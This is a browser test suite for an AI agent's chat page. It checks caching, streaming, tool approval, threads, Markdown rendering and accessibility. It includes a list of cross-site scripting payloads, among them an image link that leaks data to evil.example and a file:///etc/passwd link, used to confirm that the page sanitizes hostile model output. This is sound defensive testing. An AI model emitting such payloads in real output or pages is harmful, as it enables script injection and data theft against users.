"""The chat page in a real browser, in front of the real service."""

import gzip
import json
import re
import shutil
import time
from collections.abc import Iterator
from itertools import pairwise
from pathlib import Path

import httpx
import pytest
from selenium import webdriver
from selenium.webdriver.common.keys import Keys

from agent.api.page import FOLDER, load
from browser import LOGIN, USER, Gateway, Page, start_chromium
from servers import Agent, Model, Postgres, Redis

PAGE = Path(__file__).resolve().parents[1] / "src" / "agent" / "page"
FILES = {file.name for file in PAGE.iterdir()} - {"index.html"}
SUM = '[[tool calculator {"expression": "6*7"}]]'
TIME = '[[tool current_time {"zone": "UTC"}]]'

# What a model may be talked into saying. None of it may run, load, or become anything but text.
HOSTILE = [
    "<script>window.pwned = 1</script>",
    "<img src=x onerror='window.pwned = 1'>",
    "<svg onload=window.pwned=1><iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<a href='javascript:window.pwned=1'>click</a><style>body{display:none}</style>",
    "<base href=//evil.example><form action=//evil.example><button>go</button></form>",
    "[click](javascript:window.pwned=1) [click](JaVaScRiPt:window.pwned=1) [click](java\tscript:window.pwned=1)",
    "[click](\x01javascript:window.pwned=1) [click](&#106;avascript:window.pwned=1) [click](//evil.example)",
    "[click](data:text/html,<script>parent.pwned=1</script>) [click](vbscript:x) [click](file:///etc/passwd)",
    "[bank](https://bank.example@evil.example/) <javascript:window.pwned=1> [x](blob:https://a.example/1)",
    '[x](https://ok.example/"onmouseover="window.pwned=1) [x](https://ok.example/\'><script>pwned=1</script>)',
    "![pixel](https://evil.example/leak?q=secret) ![x](data:image/svg+xml,<svg/onload=pwned=1>)",
    "```html\n<script>window.pwned = 1</script>\n```",
    "`<img src=x onerror=pwned=1>` **<b onclick=pwned=1>** | <u>a</u> |\n|---|\n| <script>pwned=1</script> |",
    '# <img src=x onerror=pwned=1>\n> <script>pwned=1</script>\n- <img src=x onerror=pwned=1>\n\n"><script>pwned=1',
    "__proto__ constructor {{constructor.constructor('pwned=1')()}} ${pwned=1} <!--<script>pwned=1</script>",
]

# The texts that have less contrast with their ground than WCAG's AA asks for.
CONTRAST = """
const parse = (text) => { const v = text.match(/[\\d.]+/g).map(Number); return [v[0], v[1], v[2], v[3] ?? 1]; };
const over = (top, under) => [0, 1, 2].map((i) => top[i] * top[3] + under[i] * (1 - top[3])).concat(1);
const light = (colour) => { const [r, g, b] = colour.map((v) => { v /= 255;
  return v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4; }); return 0.2126 * r + 0.7152 * g + 0.0722 * b; };
const ground = (node) => { const layers = [];
  for (let at = node; at; at = at.parentElement) layers.push(parse(getComputedStyle(at).backgroundColor));
  return layers.reverse().reduce((under, top) => over(top, under)); };
const poor = [];
for (const node of document.querySelectorAll('body *')) {
  const own = [...node.childNodes].some((child) => child.nodeType === 3 && child.data.trim());
  if (!own || !node.checkVisibility() || node.closest('.unseen, :disabled, noscript')) continue;
  let opacity = 1;
  for (let at = node; at; at = at.parentElement) opacity *= Number(getComputedStyle(at).opacity);
  if (opacity === 0) continue;
  const under = ground(node), text = parse(getComputedStyle(node).color);
  const seen = over([text[0], text[1], text[2], text[3] * opacity], under);
  const [high, low] = [light(seen), light(under)].sort((a, b) => b - a);
  const ratio = (high + 0.05) / (low + 0.05);
  if (ratio < 4.5) poor.push(`${node.tagName}.${node.className} ${ratio.toFixed(2)} ${node.textContent.slice(0, 30)}`);
}
return poor;
"""


@pytest.fixture(scope="module")
def chat_service(migrated: Postgres, redis: Redis, model_process: Model) -> Iterator[Agent]:
    settings = {"AGENT_TURN_TIMEOUT_SECONDS": "30", "AGENT_TOOLS_APPROVAL": "current_time"}
    service = Agent(migrated, redis, model_process, **settings)
    service.start()
    yield service
    service.remove()


@pytest.fixture(scope="module")
def gateway(chat_service: Agent) -> Iterator[Gateway]:
    server = Gateway(chat_service.port)
    yield server
    server.shutdown()


@pytest.fixture(scope="module")
def chromium() -> Iterator[webdriver.Chrome]:
    driver = start_chromium()
    yield driver
    driver.quit()


@pytest.fixture
def page(chromium: webdriver.Chrome, gateway: Gateway) -> Iterator[Page]:
    """A page that must not have complained, nor have asked anybody else, when the test is over."""
    gateway.refusing = False
    opened = Page(chromium, gateway)
    yield opened
    own = (f"http://{gateway.address}/", f"http://{USER}:")
    assert [url for url in opened.requested() if not url.startswith((*own, "about:", "data:"))] == []
    assert opened.console() == []


@pytest.fixture
def client(gateway: Gateway) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=f"http://{gateway.address}", headers={"Authorization": LOGIN}) as client:
        yield client


def assets(page: str) -> list[str]:
    return re.findall(r'(?:href|src)="(/[^"]+)"', page)


class TestFiles:
    def test_the_page_is_behind_the_login(self, chat_service: Agent, client: httpx.Client) -> None:
        names = ["/", *assets(client.get("/").text)]
        assert sorted(name.rpartition("/")[2] for name in names) == ["", *sorted(FILES)]
        assert {httpx.get(f"{chat_service.url}{name}").status_code for name in names} == {401}

    def test_names_change_with_the_content_and_are_kept_for_ever(self, client: httpx.Client) -> None:
        page = client.get("/")
        assert page.headers["Cache-Control"] == "private, no-cache"
        for name in assets(page.text):
            assert re.fullmatch(r"/assets/[0-9a-f]{16}/\w+\.(css|js|svg)", name)
            answer = client.get(name)
            assert answer.status_code == 200
            assert answer.headers["Cache-Control"] == "private, max-age=31536000, immutable"
            assert answer.content == (PAGE / name.rpartition("/")[2]).read_bytes()
            kind = {"css": "text/css", "js": "text/javascript", "svg": "image/svg+xml"}[name.rpartition(".")[2]]
            assert answer.headers["Content-Type"] == f"{kind}; charset=utf-8"

    def test_one_file_that_changes_gives_all_of_them_new_names(self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        shutil.copytree(PAGE, tmp_path / "page")
        monkeypatch.setattr("agent.api.page.resources.files", lambda package: tmp_path)
        _, same, _ = load()
        assert same == FOLDER
        (tmp_path / "page" / "dom.js").write_text("// another one")
        page, changed, assets = load()
        assert changed != FOLDER
        assert assets["dom.js"].body == b"// another one"
        assert f'"/assets/{changed}/main.js"' in page.body.decode()
        assert FOLDER not in page.body.decode()

    @pytest.mark.parametrize(
        "name",
        [
            "page.js",
            "main.js",
            "0000000000000000/main.js",
            f"{FOLDER}/other.js",
            f"{FOLDER}/index.html",
            f"{FOLDER}/..%2fapp.py",
            f"{FOLDER}/",
            "page.0000000000000000.js",
            "..%2fapp.py",
            "index.html",
            "%00",
        ],
    )
    def test_other_names_are_not_there(self, client: httpx.Client, name: str) -> None:
        assert client.get(f"/assets/{name}").status_code == 404

    def test_what_did_not_change_is_not_sent_again(self, client: httpx.Client) -> None:
        for encoding in ("gzip", "identity"):
            headers = {"Accept-Encoding": encoding}
            tag = client.get("/", headers=headers).headers["ETag"]
            for given in (tag, f"W/{tag}", f'"other", {tag}', "*"):
                again = client.get("/", headers={**headers, "If-None-Match": given})
                assert (again.status_code, again.content) == (304, b"")
                assert again.headers["ETag"] == tag
            assert client.get("/", headers={**headers, "If-None-Match": '"other"'}).status_code == 200

    def test_the_encodings_hold_the_same_and_differ_by_their_tags(self, client: httpx.Client) -> None:
        plain = client.get("/", headers={"Accept-Encoding": "identity"})
        with client.stream("GET", "/", headers={"Accept-Encoding": "gzip"}) as zipped:
            assert gzip.decompress(b"".join(zipped.iter_raw())) == plain.content
        assert zipped.headers["Content-Encoding"] == "gzip"
        assert zipped.headers["ETag"] != plain.headers["ETag"]
        assert zipped.headers["Vary"] == plain.headers["Vary"] == "Accept-Encoding"

    def test_the_headers_are_strict(self, client: httpx.Client) -> None:
        for name in ("/", *assets(client.get("/").text)):
            headers = client.get(name).headers
            policy = headers["Content-Security-Policy"]
            assert "default-src 'none'" in policy
            assert "unsafe" not in policy
            assert "require-trusted-types-for 'script'" in policy
            assert headers["X-Frame-Options"] == "DENY"
            assert headers["X-Content-Type-Options"] == "nosniff"
            assert headers["Referrer-Policy"] == "no-referrer"

    def test_it_is_small(self, client: httpx.Client) -> None:
        page = client.get("/")
        sizes = [len(page.content), *(len(client.get(name).content) for name in assets(page.text))]
        assert sum(sizes) < 100_000

    def test_it_names_no_other_host(self) -> None:
        text = "".join(file.read_text() for file in PAGE.iterdir())
        assert set(re.findall(r"https?://[\w.]+", text)) == {"http://www.w3.org"}


class TestConversation:
    def test_an_answer_appears_piece_by_piece(self, page: Page) -> None:
        page.open().send("one two three four five six seven [[pace 0.12]]")
        seen = []
        page.until(lambda: seen.append(page.shown(".answer")) or "seven" in seen[-1], "the answer is whole")
        lengths = sorted({len(text) for text in seen})
        assert len(lengths) >= 8
        assert all(later.startswith(earlier.rstrip()) for earlier, later in pairwise(seen))

    def test_the_user_sees_that_it_works(self, page: Page) -> None:
        page.open().send("hello [[delay 1]]")
        page.shows("Thinking…")
        assert page.one("#conversation").get_attribute("aria-busy") == "true"
        page.shows("I see 1 user message")
        page.idle()
        assert page.all(".progress") == []
        assert page.one("#conversation").get_attribute("aria-busy") == "false"

    def test_a_reader_is_told_the_answer_once_and_whole(self, page: Page) -> None:
        page.open()
        page.js(
            "window.told = []; new MutationObserver(() => told.push(document.getElementById('live').textContent))"
            ".observe(document.getElementById('live'), {childList: true})"
        )
        page.say("for the ear [[pace 0.02]]")
        assert [text for text in page.js("return told") if "for the ear" in text] == [
            'The agent says: I see 1 user message. The first one was: "for the ear [[pace 0.02]]"'
        ]

    def test_a_thread_is_there_after_a_reload(self, page: Page) -> None:
        page.open().say("remember **me**")
        page.say(f"and this {SUM}")
        before = page.texts(".mine, .answer")
        thread = page.thread()
        page.open(f"#{thread}")
        page.driver.refresh()
        page.shows("The tool says: 42")
        assert page.texts(".mine, .answer") == before
        assert page.shown("h1") == "remember **me**"

    def test_the_second_message_goes_to_the_same_thread(self, page: Page) -> None:
        page.open().say("first")
        assert "I see 2 user messages" in page.say("second")

    def test_a_run_is_followed_over_a_reload(self, page: Page) -> None:
        words = " ".join(f"w{number}" for number in range(40))
        page.open().send(f"{words} [[pace 0.1]]")
        page.shows("w5", ".answer")
        page.driver.refresh()
        page.shows("w5", ".answer", seconds=3)
        assert "w39" not in page.shown(".answer")
        page.shows("w39", ".answer")
        page.idle()
        assert len(page.all(".mine")) == len(page.all(".answer")) == 1
        assert page.gateway.paths("POST").count("/chat/stream") >= 1
        assert "I see 2 user messages" in page.say("only once?")

    def test_a_run_is_followed_in_another_tab(self, page: Page) -> None:
        words = " ".join(f"w{number}" for number in range(40))
        page.open().send(f"{words} [[pace 0.1]]")
        page.shows("w3", ".answer")
        first = page.driver.current_window_handle
        thread = page.thread()
        page.driver.switch_to.new_window("tab")
        page.open(f"#{thread}")
        page.shows("w39", ".answer")
        page.idle()
        assert len(page.all(".mine")) == len(page.all(".answer")) == 1
        page.driver.close()
        page.driver.switch_to.window(first)
        page.shows("w39", ".answer")

    def test_a_broken_stream_is_taken_up_where_it_broke(self, page: Page) -> None:
        words = " ".join(f"w{number}" for number in range(40))
        page.open().send(f"{words} [[pace 0.08]]")
        page.shows("w5", ".answer")
        page.gateway.cut()
        page.shows("w39", ".answer")
        page.idle()
        assert page.shown(".answer") == f'I see 1 user message. The first one was: "{words} [[pace 0.08]]"'
        resumed = [headers for method, path, headers in page.gateway.seen if path.startswith("/chat/stream/")]
        assert int(resumed[-1]["Last-Event-ID"]) > 1
        page.driver.get_log("browser")  # the browser names the broken request: it was asked for

    def test_a_server_that_is_away_for_a_while_loses_nothing(self, page: Page) -> None:
        page.open()
        page.gateway.refusing = True
        page.send("through the gap")
        page.shows("The connection is lost. Trying again…")
        page.gateway.refusing = False
        page.shows("I see 1 user message")
        page.idle()
        assert "I see 2 user messages" in page.say("once?")
        page.driver.get_log("browser")  # the 502s that were asked for

    def test_leaving_a_thread_does_not_end_its_run(self, page: Page) -> None:
        page.open().send("left alone w1 w2 w3 w4 w5 w6 w7 w8 w9 [[pace 0.15]]")
        page.shows("w1", ".answer")
        thread = page.thread()
        page.click("#new")
        assert page.all(".turn") == []
        assert page.say("meanwhile").count("meanwhile") == 2
        page.click(f'#threads a[href="#{thread}"]')
        page.shows("w9", ".answer")
        page.idle()
        assert len(page.all(".turn")) == 1

    def test_tokens_are_counted(self, page: Page) -> None:
        page.open().say("count me")
        page.until(lambda: re.search(r"\d+ tokens: \d+ read, \d+ written", page.shown("#turns")), "usage is shown")


class TestTools:
    def test_a_step_shows_its_name_arguments_result_and_state(self, page: Page) -> None:
        page.open().say(f"calculate {SUM}")
        page.until(lambda: "6*7" in page.shown(".tool .short"), "the arguments are shown")
        assert page.shown(".tool .name") == "calculator"
        assert "done" in page.shown(".tool .state")
        assert page.one(".tool").get_attribute("open") is None
        page.click(".tool summary")
        assert json.loads(page.texts(".tool pre")[0]) == {"expression": "6*7"}
        assert page.texts(".tool pre")[1] == "42"
        assert page.shown(".answer") == "The tool says: 42"

    def test_it_opens_by_keyboard(self, page: Page) -> None:
        page.open().say(f"calculate {SUM}")
        page.js("document.querySelector('.tool summary').focus()")
        page.keys(Keys.ENTER)
        page.until(lambda: "42" in page.shown(".tool dl"), "the step is open")

    def test_each_of_several_has_its_own(self, page: Page) -> None:
        page.open().say('[[tool calculator {"expression": "1+1"}]] [[tool calculator {"expression": "2*4"}]]')
        page.until(lambda: len([t for t in page.texts(".tool .short") if t]) == 2, "both have arguments")
        assert sorted(page.texts(".tool .short")) == ['{"expression":"1+1"}', '{"expression":"2*4"}']

    def test_they_are_the_same_after_a_reload(self, page: Page) -> None:
        page.open().say(f"calculate {SUM}")
        page.until(lambda: "6*7" in page.shown(".tool .short"), "the arguments are shown")
        before = page.texts(".tool summary")
        page.driver.refresh()
        page.shows("The tool says: 42")
        assert page.texts(".tool summary") == before


class TestApproval:
    def test_an_approved_step_is_done(self, page: Page) -> None:
        page.open().send(f"what time is it? {TIME}")
        page.shows("Approve this step?")
        assert "current_time" in page.shown(".approval")
        assert '"UTC"' in page.shown(".approval")
        assert not page.one("#send").is_enabled()
        page.click(".approval .approve")
        page.shows("The tool says:", ".answer")
        page.idle()
        assert page.all(".approval") == []
        assert "done" in page.shown(".tool .state")
        assert "I see 2 user messages" in page.say("thanks")

    def test_a_denied_step_is_not(self, page: Page) -> None:
        page.open().send(f"what time is it? {TIME}")
        page.shows("Approve this step?")
        page.js("document.querySelectorAll('.approval button')[1].focus()")
        page.keys(Keys.ENTER)
        page.shows("The user did not allow this call.", ".answer")
        page.idle()
        page.until(lambda: "not allowed" in page.shown(".tool .state"), "nothing failed")
        page.driver.refresh()
        page.shows("The user did not allow this call.", ".answer")
        assert "not allowed" in page.shown(".tool .state")

    def test_the_question_is_there_after_a_reload(self, page: Page) -> None:
        page.open().send(f"what time is it? {TIME}")
        page.shows("Approve this step?")
        page.driver.refresh()
        page.shows("Approve this step?")
        assert "waiting" in page.shown(".tool .state")
        page.click(".approval .approve")
        page.shows("The tool says:", ".answer")
        page.idle()
        assert len(page.all(".turn")) == 1

    def test_keys_that_were_on_their_way_approve_nothing(self, page: Page) -> None:
        page.open().send(f"what time is it? {TIME}")
        page.shows("Approve this step?")
        page.keys(" ", Keys.ENTER)
        time.sleep(0.5)
        assert "Approve this step?" in page.shown(".approval")


class TestStopping:
    LONG = " ".join(f"w{number}" for number in range(100)) + " [[pace 0.1]]"

    @pytest.mark.parametrize("how", ["button", "escape"])
    def test_a_run_is_stopped(self, page: Page, how: str) -> None:
        page.open().send(self.LONG)
        page.shows("w3", ".answer")
        page.click("#stop") if how == "button" else page.keys(Keys.ESCAPE)
        page.shows("Stopped.")
        page.idle()
        written = page.shown(".answer")
        time.sleep(0.5)
        assert page.shown(".answer") == written
        assert any(path.endswith("/cancel") for path in page.gateway.paths("POST"))
        page.driver.refresh()
        page.shows("w3", ".answer")
        assert page.shown(".answer") == written, "what was read is there after a reload"
        assert "I see 2 user messages." in page.say("afterwards")

    def test_a_run_is_stopped_before_its_first_word(self, page: Page) -> None:
        page.open().send("late [[delay 8]]")
        page.until(lambda: page.gateway.paths("POST").count("/chat/stream"), "it is sent")
        page.keys(Keys.ESCAPE)
        page.shows("Stopped.", seconds=5)

    def test_its_text_can_be_used_again(self, page: Page) -> None:
        page.open().send(self.LONG)
        page.shows("w3", ".answer")
        page.keys(Keys.ESCAPE)
        page.shows("Stopped.")
        page.click(".problem button:nth-of-type(2)")
        assert page.js("return document.getElementById('message').value") == self.LONG
        assert page.focus() == "message"


class TestActs:
    def test_an_answer_is_copied(self, page: Page) -> None:
        page.open().say("hello")
        page.js("navigator.clipboard.writeText = async (text) => { window.copied = text }")
        page.click(".acts button")
        page.until(lambda: page.js("return window.copied") == 'I see 1 user message. The first one was: "hello"', "it is copied")

    def test_an_answer_is_given_anew(self, page: Page) -> None:
        page.open().say("first")
        page.say("second")
        page.click(".turn:last-child .acts button:nth-of-type(2)")
        page.until(lambda: "I see 2 user messages" in page.texts(".turn")[-1] and len(page.all(".turn")) == 2, "the question is not doubled")
        page.idle()
        page.driver.refresh()
        page.until(lambda: len(page.all(".turn")) == 2, "nor in the thread")

    def test_a_question_is_edited(self, page: Page) -> None:
        page.open().say("first")
        page.say("second")
        page.click(".turn:first-child .acts button:nth-of-type(3)")
        page.js("document.querySelector('.edit textarea').value = 'other'")
        page.click(".edit .approve")
        page.shows('The first one was: "other"')
        page.idle()
        assert page.texts(".mine") == ["other"], "what came after it is gone"
        page.driver.refresh()
        page.shows('The first one was: "other"')
        assert page.texts(".mine") == ["other"]

    def test_an_edit_is_given_up(self, page: Page) -> None:
        page.open().say("first")
        page.click(".acts button:nth-of-type(3)")
        page.click(".edit button:nth-of-type(2)")
        assert page.texts(".mine") == ["first"]


class TestReasoning:
    def test_it_is_folded(self, page: Page) -> None:
        page.open().say("[[think two and two]] hello")
        for _ in range(2):
            assert "two and two" not in page.shown(".turn .thought")
            page.click(".thought summary")
            assert "two and two" in page.shown(".thought")
            assert page.shown(".answer") == 'I see 1 user message. The first one was: "[[think two and two]] hello"'
            page.driver.refresh()
            page.shows("I see 1 user message", ".answer")


class TestErrors:
    def test_a_failure_is_told_and_can_be_tried_again(self, page: Page) -> None:
        page.open().send("bad luck [[fault 400]]")
        page.shows("The model gave no usable answer.")
        page.idle()
        page.click(".problem button")
        page.shows("The model gave no usable answer.")
        page.idle()
        assert len(page.all(".turn")) == 1
        assert "I see 1 user message." in page.say("better")

    def test_a_model_that_is_away_is_waited_for(self, page: Page, model: Model) -> None:
        page.open()
        model.control(fault="503", times=3)
        page.send("are you there?")
        page.shows("Waiting for the model…")
        page.shows("I see 1 user message", ".answer", seconds=25)
        page.idle()

    def test_a_refused_message_is_given_back(self, page: Page) -> None:
        page.open().send("x" * 16_001)
        page.shows("message: must be a text")
        page.click(".problem button:nth-of-type(2)")
        assert len(page.js("return document.getElementById('message').value")) == 16_001
        page.driver.get_log("browser")  # the 422

    def test_a_thread_that_is_not_there(self, page: Page) -> None:
        page.open("#no-such-thread")
        page.shows("There is no such thread, or no longer.")
        page.click("#new")
        assert "I see 1 user message" in page.say("hello")
        page.driver.get_log("browser")  # the 404


class TestThreads:
    def test_a_draft_stays_where_it_was_written(self, page: Page) -> None:
        page.open().say("the one")
        first = page.thread()
        page.write("not sent")
        page.click("#new")
        assert page.js("return document.getElementById('message').value") == ""
        page.write("of the new one")
        page.js(f"location.hash = '{first}'")
        page.until(lambda: page.js("return document.getElementById('message').value") == "not sent", "the draft is back")
        page.click("#new")
        assert page.js("return document.getElementById('message').value") == "of the new one"

    def test_the_newest_is_first_and_named_by_its_first_words(self, page: Page) -> None:
        page.open().say("the older one")
        page.click("#new")
        page.say("the newer\n   one " + "x" * 100)
        page.until(lambda: len(page.texts("#threads a")) >= 2 and "newer" in page.texts("#threads a")[0], "listed")
        assert page.texts("#threads a")[:2] == [("the newer one " + "x" * 100)[:80], "the older one"]
        assert page.one("#threads a[aria-current]").text.startswith("the newer one")

    def test_rename(self, page: Page) -> None:
        page.open().say("a name to change")
        page.until(lambda: page.texts("#threads a")[:1] == ["a name to change"], "it is listed")
        page.click("#threads li:first-child button[aria-label=Rename]")
        assert page.focus() == "dialog-input"
        page.keys("A better name", Keys.ENTER)
        page.until(lambda: page.texts("#threads a")[0] == "A better name", "it has its name")
        assert page.shown("h1") == "A better name"
        page.driver.refresh()
        page.until(lambda: page.texts("#threads a")[:1] == ["A better name"], "it keeps its name")

    def test_delete_asks_first(self, page: Page) -> None:
        page.open().say("to be deleted")
        page.until(lambda: page.texts("#threads a")[:1] == ["to be deleted"], "it is listed")
        thread = page.thread()
        page.click("#threads li:first-child button[aria-label=Delete]")
        assert page.focus() == "dialog-cancel"
        page.keys(Keys.ESCAPE)
        assert page.texts("#threads a")[0] == "to be deleted"
        page.click("#threads li:first-child button[aria-label=Delete]")
        page.click("#dialog-ok")
        page.until(lambda: "to be deleted" not in page.texts("#threads a"), "it is gone")
        assert (page.thread(), page.all(".turn"), page.focus()) == ("", [], "message")
        page.open(f"#{thread}")
        page.shows("There is no such thread")
        page.driver.get_log("browser")  # the 404

    def test_back_and_forth(self, page: Page) -> None:
        page.open().say("number one")
        page.click("#new")
        page.say("number two")
        page.driver.back()
        page.driver.back()
        page.shows("number one")
        page.driver.forward()
        page.driver.forward()
        page.shows("number two")

    def test_more_than_a_page_of_them(self, page: Page, client: httpx.Client) -> None:
        for number in range(55):
            assert client.post("/threads", json={"metadata": {"title": f"old {number}"}}).status_code == 200
        page.open()
        page.until(lambda: len(page.all("#threads li")) == 50, "the first page is listed")
        page.click("#more")
        page.until(lambda: len(page.all("#threads li")) >= 55, "the second page is listed")


class TestMarkdown:
    def answer(self, page: Page, text: str, css: str) -> list[str]:
        page.open().say(f"\n\n{text}\n\n")
        return page.texts(f".answer {css}")

    def test_blocks(self, page: Page) -> None:
        text = (
            "# Title\n\nSome **bold**, *thin*, `code` and ~~gone~~ text.\nNext line.\n\n"
            "1. one\n2. two\n   - inner *x*\n   - more\n3. three\n\n> quoted\n\n---\n\n"
            "```python\nprint('**not bold**')\n\nx = 1 < 2\n```\n\n| a | b |\n|---|:-:|\n| 1 | `2` |\n"
        )
        assert self.answer(page, text, "h3") == ["Title"]
        for css, expected in {
            "strong": ["bold"],
            "em": ["thin", "x"],
            "p code": ["code"],
            "del": ["gone"],
            "ol > li": ["one", "two\ninner x\nmore", "three"],
            "ul > li": ["inner x", "more"],
            "blockquote": ["quoted"],
            "pre": ["print('**not bold**')\n\nx = 1 < 2"],
            "th": ["a", "b"],
            "td": ["1", "2"],
        }.items():
            assert page.texts(f".answer {css}") == expected, css
        assert len(page.all(".answer hr")) == 1

    def test_links(self, page: Page) -> None:
        text = "[docs](https://docs.example/a_b_(c)?x=1) and https://bare.example/x, <https://angled.example/>, ![a picture](https://pictures.example/1.png)"
        assert self.answer(page, text, "a") == [
            "docs",
            "https://bare.example/x",
            "https://angled.example/",
            "a picture",
        ]
        links = page.all(".answer a")
        assert [link.get_attribute("href") for link in links][:2] == [
            "https://docs.example/a_b_(c)?x=1",
            "https://bare.example/x",
        ]
        assert {link.get_attribute("rel") for link in links} == {"noopener noreferrer nofollow"}
        assert {link.get_attribute("target") for link in links} == {"_blank"}
        assert page.all("#turns img") == []

    @pytest.mark.parametrize("text", ["2 * 3 * 4", "snake_case_name", "a ** b ** c", "5 > 3 < 4", "~x~", "[a] (b)", "# "])
    def test_what_is_no_markup_stays(self, page: Page, text: str) -> None:
        assert text.strip() in page.open().say(f"\n\nx {text}\n\n")

    def test_what_is_streamed_ends_up_the_same_as_what_is_loaded(self, page: Page) -> None:
        lists = "- one\n- two\n\n  more\n- three\n\ntext\n\n1. a\n\n2. b"
        text = f"\n\n## A\n\n{lists}\n\n```\ncode\n\n\ncode\n```\n\nend **x**\n\n"
        page.open().say(f"{text} [[pace 0.02]]")
        streamed = page.js("return document.querySelector('.answer').innerHTML")
        page.driver.refresh()
        page.shows("end x")
        assert page.js("return document.querySelector('.answer').innerHTML") == streamed

    @pytest.mark.parametrize(
        "piece",
        [
            "*a ",
            "**a ",
            "[",
            "![",
            "[a](",
            "`",
            "`` ` ",
            "> ",
            "- ",
            "<http://",
            "|",
            "~~a ",
            "_a ",
            "*a_b**c`d[",
            "```~",
        ],
    )
    def test_no_text_takes_long(self, page: Page, piece: str) -> None:
        page.open()
        # The best of three: what else the machine does meanwhile is no work of the page.
        took = page.js(
            "const turn = document.querySelector('[href$=\"/turn.js\"]').href; const text = arguments[0];"
            "return import(turn).then(({ Answer }) => Math.min(...[1, 2, 3].map(() => { const started = performance.now();"
            "const answer = new Answer(); answer.text = text; answer.render(); return performance.now() - started; })))",
            piece * (60_000 // len(piece)),
        )
        print(f"{took:.0f} ms")
        assert took < 1500


class TestHostileText:
    @pytest.mark.parametrize("text", HOSTILE)
    def test_it_does_nothing(self, page: Page, text: str) -> None:
        page.open().say(f"\n\n{text}\n\n")
        self.check(page)
        page.driver.refresh()
        page.shows("I see 1 user message")
        self.check(page)

    def test_nor_as_a_title_or_a_tool_s_argument(self, page: Page) -> None:
        page.open().say('<img src=x onerror=pwned=1> [[tool calculator {"expression": "<img src=x onerror=pwned=1>"}]]')
        page.until(lambda: page.texts("#threads a")[:1] == [page.shown("h1")], "it is listed")
        assert "<img src=x" in page.shown("h1")
        self.check(page)

    def check(self, page: Page) -> None:
        assert page.js("return window.pwned") is None
        forbidden = "script:not([src]), img, iframe, object, embed, style, base, form:not(#composer, dialog form)"
        assert page.js(f"return document.querySelectorAll({json.dumps(forbidden)}).length") == 0
        handlers = (
            "return [...document.querySelectorAll('#turns *, #threads *, h1')].filter("
            "(node) => node.getAttributeNames().some((name) => name.startsWith('on') || name === 'style')).length"
        )
        assert page.js(handlers) == 0
        for link in page.all("#turns a"):
            assert re.match(r"https?://[^@]*$", link.get_attribute("href"))

    def test_the_policy_holds(self, page: Page) -> None:
        page.open()
        # In a task of the page's own: what the driver runs itself is above the policy.
        page.js(
            "window.violations = []; document.addEventListener('securitypolicyviolation',"
            "(event) => violations.push(event.effectiveDirective));"
            "setTimeout(() => { window.pwned = eval('1'); });"
            "setTimeout(() => {"
            "const script = document.createElement('script'); document.body.append(script);"
            "script.append('window.pwned = 2'); });"
            "setTimeout(() => { document.body.innerHTML = '<img src=x onerror=pwned=3>'; });"
            "setTimeout(() => { document.body.setAttribute('onclick', 'pwned = 4'); });"
            "setTimeout(() => { document.body.setAttribute('style', 'display: none'); });"
            "setTimeout(() => { new Image().src = 'http://127.0.0.1:1/x.png'; });"
            "setTimeout(() => { fetch('http://127.0.0.1:1/').catch(() => {}); });"
            "setTimeout(() => { window.tried = true; }, 200);"
        )
        wanted = {"require-trusted-types-for", "img-src", "style-src-attr", "connect-src"}
        page.until(lambda: page.js("return window.tried") and wanted <= set(page.js("return violations")), "refused")
        assert page.js("return window.pwned") is None
        assert page.one("#message").is_displayed()
        page.driver.get_log("browser")  # what it says of each
        page.driver.get_log("performance")  # a request is noted before it is refused


class TestKeyboard:
    def test_enter_sends_and_shift_enter_does_not(self, page: Page) -> None:
        page.open()
        assert page.focus() == "message"
        page.keys("first")
        page.chord(Keys.SHIFT, Keys.ENTER)
        page.keys("second")
        assert page.js("return document.getElementById('message').value") == "first\nsecond"
        page.keys(Keys.ENTER)
        page.shows("I see 1 user message")
        assert page.shown(".mine") == "first\nsecond"
        assert page.focus() == "message"

    @pytest.mark.parametrize("text", ["", "  \n "])
    def test_nothing_is_not_sent(self, page: Page, text: str) -> None:
        page.open().send(text)
        assert page.all(".turn") == []
        assert not page.one("#send").is_enabled()

    def test_enter_sends_nothing_while_an_answer_comes(self, page: Page) -> None:
        page.open().send("w1 w2 w3 w4 w5 w6 [[pace 0.15]]")
        page.shows("w1", ".answer")
        page.send("too early")
        assert len(page.all(".turn")) == 1
        assert page.js("return document.getElementById('message').value") == "too early"
        page.idle()

    def test_control_k_starts_a_thread(self, page: Page) -> None:
        page.open().say("the old thread")
        page.js("document.querySelector('#threads a').focus()")
        page.chord(Keys.CONTROL, "k")
        assert (page.thread(), page.all(".turn"), page.focus()) == ("", [], "message")
        assert page.shown("h1") == "New thread"

    def test_the_first_stop_skips_to_the_message(self, page: Page) -> None:
        page.open()
        page.js("document.getElementById('theme').focus()")
        page.chord(Keys.SHIFT, Keys.TAB)
        assert page.focus() == "Skip to the message field"
        assert page.one(".skip").location["y"] >= 0
        page.keys(Keys.ENTER)
        assert (page.focus(), page.thread()) == ("message", "")

    def test_all_that_can_be_clicked_can_be_reached_and_has_a_name(self, page: Page) -> None:
        page.open().say(f"```\ncode\n```\n {SUM}")
        page.until(lambda: page.texts("#threads a"), "it is listed")
        nameless = (
            "return [...document.querySelectorAll('button, a, input, textarea, summary')].filter((node) =>"
            "!(node.innerText.trim() || node.getAttribute('aria-label') || node.labels?.length)"
            "&& node.checkVisibility()).map((node) => node.outerHTML)"
        )
        assert page.js(nameless) == []
        page.js("document.activeElement.blur()")
        reached = set()
        for _ in range(40):
            page.keys(Keys.TAB)
            reached.add(page.focus())
        for wanted in ("theme", "new", "message"):
            assert any(wanted in name for name in reached), wanted


class TestLooks:
    @pytest.mark.parametrize("width", [320, 390])
    def test_a_phone_scrolls_in_one_direction(self, page: Page, width: int) -> None:
        page.size(width, 700, phone=True)
        page.open().say(f"\n\n```\n{'x' * 300}\n```\n\n{'y' * 300}\n\n| {'a |' * 20}\n|{'---|' * 20}\n\n {SUM}")
        assert page.js("return document.documentElement.scrollWidth") <= width
        assert page.js("return document.getElementById('conversation').scrollWidth") <= width
        beyond = (
            "return [...document.querySelectorAll('main *')].filter((node) => node.checkVisibility()"
            "&& !node.closest('pre, .table, .unseen, .short') && node.getBoundingClientRect().right > innerWidth + 1)"
            ".map((node) => node.outerHTML.slice(0, 200))"
        )
        assert page.js(beyond) == []

    def test_a_phone_has_a_drawer(self, page: Page) -> None:
        page.size(390, 800, phone=True)
        page.open().say("from a phone")
        assert not page.one("#drawer").is_displayed()
        page.click("#menu")
